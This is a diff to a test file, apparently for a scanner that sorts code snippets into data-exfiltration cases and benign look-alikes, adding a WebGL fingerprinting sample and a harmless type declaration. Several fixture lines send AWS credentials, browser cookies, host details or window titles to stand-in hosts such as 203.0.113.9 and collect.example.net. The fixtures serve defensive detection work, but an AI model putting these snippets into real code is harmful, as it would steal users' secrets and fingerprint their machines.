@@ -112,6 +112,7 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["Telegram bot upload", `bot.send_document(chat_id, open(os.path.expanduser("~/.aws/credentials"), "rb"))`, "data_exfiltration.http.send_sensitive"],
     ["Node host facts", `const info = { host: os.hostname(), user: os.userInfo().username, nets: os.networkInterfaces() };`, "data_exfiltration.recon.host_fingerprint"],
     ["Java host facts posted", `String os = System.getProperty("os.name");\nString host = InetAddress.getLocalHost().getHostName();\nHttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.9/i").openConnection();\nc.setRequestMethod("POST");\nhttpClient.post("http://203.0.113.9/i", os + host);`, "data_exfiltration.http.send_sensitive"],
+    ["GPU, screen and user agent read together", `const dbg = gl.getExtension("WEBGL_debug_renderer_info");\nconst fp = [gl.getParameter(dbg.UNMASKED_VENDOR_WEBGL), gl.getParameter(dbg.UNMASKED_RENDERER_WEBGL), navigator.userAgent, screen.width];`, "data_exfiltration.recon.host_fingerprint"],
     [".NET machine facts", `var facts = new { Environment.MachineName, Environment.UserName, Environment.OSVersion };`, "data_exfiltration.recon.host_fingerprint"],
     ["image beacon with cookies", `new Image().src = "https://collect.example.net/c?d=" + encodeURIComponent(document.cookie);`, "data_exfiltration.http.send_sensitive"],
     ["window title posted", `title = win32gui.GetWindowText(win32gui.GetForegroundWindow())\nrequests.post("http://203.0.113.9/w", data={"w": title})`, "data_exfiltration.http.send_sensitive"],
@@ -127,6 +128,8 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["a user-agent check", `if (navigator.userAgent.includes("Firefox")) { useFallback(); }`],
     ["a responsive layout", `const narrow = screen.width < 600;\nlayout(narrow);`],
     ["one header read", `ua = request.headers.get("User-Agent")\nif "bot" in ua: abort(403)`],
+    // TypeScript's lib.dom.d.ts: the extension's declaration names it and its two constants.
+    ["the WebGL debug extension declared", `/**\n * The **\`WEBGL_debug_renderer_info\`** extension is part of the WebGL API.\n *\n * [MDN Reference](https://developer.mozilla.org/docs/Web/API/WEBGL_debug_renderer_info)\n */\ninterface WEBGL_debug_renderer_info {\n    readonly UNMASKED_VENDOR_WEBGL: 0x9245;\n    readonly UNMASKED_RENDERER_WEBGL: 0x9246;\n}`],
     ["a preloaded image", `const img = new Image();\nimg.src = "/static/logo.png";`],
     ["a jQuery form post", `$.post("/api/comments", { text: $("#comment").val() });`],
     ["posting form data to an API", `resp = client.post("https://api.example.com/v1/orders", json={"sku": sku, "qty": 2})`],
